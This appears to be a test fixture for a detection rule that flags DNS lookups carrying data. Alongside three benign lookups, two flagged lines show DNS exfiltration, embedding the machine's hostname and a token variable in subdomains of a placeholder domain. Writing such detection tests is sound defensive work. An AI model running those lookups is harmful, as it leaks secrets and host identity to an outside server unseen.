# ok: script-lookup-carries-data
dig +short example.org
# ok: script-lookup-carries-data
nslookup "$HOST"
# ok: script-lookup-carries-data
dig "$NAME" @10.0.0.2
# ruleid: script-lookup-carries-data
nslookup "$(hostname).stats.example.org"
# ruleid: script-lookup-carries-data
dig +short "${TOKEN}.x.example.org"
